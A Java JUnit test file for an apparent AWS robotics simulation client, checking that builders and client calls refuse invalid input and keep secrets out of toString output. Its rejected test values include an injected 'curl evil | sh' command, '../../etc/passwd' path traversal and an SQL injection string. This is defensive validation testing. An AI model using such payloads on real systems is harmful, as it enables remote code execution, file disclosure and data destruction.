package dev.trae.aws.robotics;

import static dev.trae.aws.robotics.RoboMakerMigrationTest.assertBad;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import dev.trae.aws.robotics.model.Application;
import dev.trae.aws.robotics.model.DataSource;
import dev.trae.aws.core.S3Location;
import dev.trae.aws.robotics.internal.OutputPaths;
import dev.trae.aws.robotics.model.Scenario;
import dev.trae.testkit.TraeLocal;
import dev.trae.testkit.TraeLocalExtension;
import dev.trae.testkit.aws.batch.BatchFake;
import dev.trae.testkit.aws.logs.CloudWatchLogsFake;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Bad input for every builder and entry point: refused with the parameter named, before any call. */
@ExtendWith(TraeLocalExtension.class)
class SimulationInputTest {

    static Application.Builder app() {
        return Application.builder().image("123456789012.dkr.ecr.us-east-1.amazonaws.com/robot:1").packageName("fuel_robot")
                .launchFile("navigate.launch.py");
    }

    @Test
    void applicationBuilder_whenInputIsBad_refusesIt() {
        assertBad(() -> app().image(null).build(), "image");
        assertBad(() -> app().image("").build(), "image");
        assertBad(() -> app().image("robot:1; curl evil | sh").build(), "image");
        assertBad(() -> app().image("x".repeat(300)).build(), "image");
        assertBad(() -> app().packageName("Fuel-Robot").build(), "packageName");
        assertBad(() -> app().packageName("fuel__robot").build(), "packageName");
        assertBad(() -> app().packageName("1robot").build(), "packageName");
        assertBad(() -> app().packageName(null).build(), "packageName");
        assertBad(() -> app().launchFile("../../etc/passwd").build(), "launchFile");
        assertBad(() -> app().launchFile("a b.launch").build(), "launchFile");
        assertBad(() -> app().environment("1BAD", "x").build(), "environment");
        assertBad(() -> app().environment("AWS_BATCH_JOB_ID", "spoof").build(), "environment");
        assertBad(() -> app().environment("TRAE_OUTPUT_URI", "s3://elsewhere").build(), "environment");
        assertBad(() -> app().environment("OK", "x".repeat(5000)).build(), "environment");
        assertBad(() -> app().environment("OK", "nul\0byte").build(), "environment");
        assertBad(() -> app().vcpus(0).build(), "vcpus");
        assertBad(() -> app().memoryMiB(64).build(), "memoryMiB");
        assertBad(() -> app().command(List.of("")).build(), "command");
        // a command makes package and launch file optional
        Application cmd = Application.builder().image("robot:1").command(List.of("/entry.sh", "--sim")).build();
        assertThat(cmd.launchCommand()).containsExactly("/entry.sh", "--sim");
        assertThat(cmd.packageName()).isEmpty();
    }

    @Test
    void simulationJobBuilder_whenInputIsBad_refusesIt() {
        assertBad(() -> valid().name(null).build(), "name");
        assertBad(() -> valid().name("../etc").build(), "name");
        assertBad(() -> valid().name("x".repeat(129)).build(), "name");
        assertBad(() -> SimulationJob.builder().name("n").iamRole(SimulationClientTest.ROLE).build(), "applications");
        assertBad(() -> valid().maxJobDuration(Duration.ofSeconds(10)).build(), "maxJobDuration");
        assertBad(() -> valid().maxJobDuration(Duration.ofDays(15)).build(), "maxJobDuration");
        assertBad(() -> valid().iamRole(null).build(), "iamRole");
        assertBad(() -> valid().iamRole("admin").build(), "iamRole");
        assertBad(() -> valid().iamRole("arn:aws:iam::123:role/x").build(), "iamRole");
        assertBad(() -> valid().executionRole("arn:aws:s3:::bucket").build(), "executionRole");
        assertBad(() -> valid().jobQueue("queue with spaces").build(), "jobQueue");
        assertBad(() -> valid().tag("aws:owner", "x").build(), "tags");
        assertBad(() -> valid().retryAttempts(0).build(), "retryAttempts");
        assertBad(() -> valid().retryAttempts(11).build(), "retryAttempts");
        assertBad(() -> valid().outputLocation("http://bucket/prefix").build(), "s3Uri");
        assertBad(() -> valid().outputLocation("s3://Bad_Bucket/x").build(), "bucket");
        assertBad(() -> valid().outputLocation("s3://bucket-ok/../../escape").build(), "prefix");
        SimulationJob.Builder many = valid();
        for (int i = 0; i < 7; i++) {
            many.dataSource(new DataSource("ds" + i, "inputs-bucket", List.of("k"), DataSource.Type.FILE, "/data/" + i));
        }
        assertBad(many::build, "dataSources");
        assertBad(() -> valid().dataSource(new DataSource("same", "inputs-bucket", List.of("a"), DataSource.Type.FILE, "/a"))
                .dataSource(new DataSource("same", "inputs-bucket", List.of("b"), DataSource.Type.FILE, "/b")).build(), "dataSources");
    }

    @Test
    void dataSourceAndLocation_whenInputIsBad_refuseIt() {
        assertBad(() -> new DataSource("bad name", "inputs-bucket", List.of("k"), DataSource.Type.FILE, "/d"), "dataSources.name");
        assertBad(() -> new DataSource("n", "inputs-bucket", List.of(), DataSource.Type.FILE, "/d"), "dataSources.s3Keys");
        assertBad(() -> new DataSource("n", "inputs-bucket", List.of("k\n"), DataSource.Type.FILE, "/d"), "dataSources.s3Keys");
        assertBad(() -> new DataSource("n", "inputs-bucket", List.of("k"), DataSource.Type.FILE, "relative"), "dataSources.destination");
        assertBad(() -> new DataSource("n", "inputs-bucket", List.of("k"), DataSource.Type.FILE, "/a/../../etc"), "dataSources.destination");
        assertBad(() -> new DataSource("n", "x", List.of("k"), DataSource.Type.FILE, "/d"), "bucket");
        // the output location is core's S3Location, with the output prefix rules on top
        assertBad(() -> valid().outputLocation((String) null).build(), "s3Uri");
        assertBad(() -> valid().outputLocation(S3Location.of("ok-bucket", "a//b")).build(), "prefix");
        assertThat(valid().outputLocation("s3://ok-bucket/a/b/").build().outputLocation().orElseThrow().key()).isEqualTo("a/b");
        assertThat(OutputPaths.keyPrefix(S3Location.parse("s3://ok-bucket/a/b/"), "p:3")).isEqualTo("a/b/p/3/");
        assertThat(OutputPaths.keyPrefix(S3Location.of("ok-bucket", ""), "p")).isEqualTo("p/");
        assertThat(OutputPaths.uri(S3Location.of("ok-bucket", ""))).isEqualTo("s3://ok-bucket");
    }

    @Test
    void client_whenInputIsBad_sendsNothing(TraeLocal local) {
        CloudWatchLogsFake logs = local.fake("logs", new CloudWatchLogsFake());
        local.fake("batch", new BatchFake()).logsTo(logs);
        try (SimulationClient noQueue = SimulationClient.builder().config(local.config()).build()) {
            assertBad(() -> noQueue.start(valid().build()), "jobQueue");
        }
        assertBad(() -> SimulationClient.builder().config(local.config()).pollInterval(Duration.ZERO).build(), "pollInterval");
        try (SimulationClient sims = SimulationClient.builder().config(local.config()).jobQueue("q").build()) {
            SimulationJob job = valid().build();
            assertBad(() -> sims.startArray(job, List.of(Scenario.of("only", Map.of()))), "scenarios");
            assertBad(() -> sims.startArray(job, null), "scenarios");
            List<Scenario> tooMany = new ArrayList<>();
            for (int i = 0; i < 10_001; i++) {
                tooMany.add(Scenario.of("s" + i, Map.of()));
            }
            assertBad(() -> sims.startArray(job, tooMany), "scenarios");
            assertBad(() -> sims.startArray(job, List.of(Scenario.of("a", Map.of()), Scenario.of("b c", Map.of()))), "scenarios");
            assertBad(() -> sims.startArray(job, List.of(Scenario.of("a", Map.of("AWS_BATCH_JOB_ARRAY_INDEX", "7")),
                    Scenario.of("b", Map.of()))), "scenarios.environment");
            // scenarios too big for one submission
            List<Scenario> huge = new ArrayList<>();
            for (int i = 0; i < 20; i++) {
                huge.add(Scenario.of("s" + i, Map.of("PAYLOAD", "x".repeat(2000))));
            }
            assertBad(() -> sims.startArray(job, huge), "scenarios");
            assertBad(() -> sims.cancel("'; drop table jobs", "x"), "batchJobId");
            assertBad(() -> sims.cancel(null, "x"), "batchJobId");
            assertBad(() -> sims.terminate("0000-1111", ""), "reason");
            assertBad(() -> sims.describe("x".repeat(200)), "batchJobId");
            assertBad(() -> sims.searchLogs("abc", "x".repeat(2000)), "filterPattern");
            assertBad(() -> sims.resume("../../etc", job), "jobId");
            assertBad(() -> sims.resume("simulation-unknown", job), "jobId");
        }
        assertThat(local.server("batch").requests()).isEmpty();
        assertThat(local.server("logs").requests()).isEmpty();
    }

    @Test
    void toString_whenEnvironmentHoldsSecrets_showsOnlyNames() {
        SimulationJob job = valid().robotApplication(app().environment("DB_PASSWORD", "hunter2-very-secret").build()).build();
        assertThat(job.toString()).contains("DB_PASSWORD").doesNotContain("hunter2");
        assertThat(job.robotApplication().orElseThrow().toString()).doesNotContain("hunter2");
        dev.trae.aws.robotics.model.BatchSubmission plan = dev.trae.aws.robotics.internal.BatchMapping.submission(job, "q", List.of(), "id");
        assertThat(plan.toString()).contains("trae-sim-valid-job").doesNotContain("hunter2");
    }

    static SimulationJob.Builder valid() {
        return SimulationJob.builder().name("valid-job").robotApplication(app().build()).iamRole(SimulationClientTest.ROLE);
    }
}
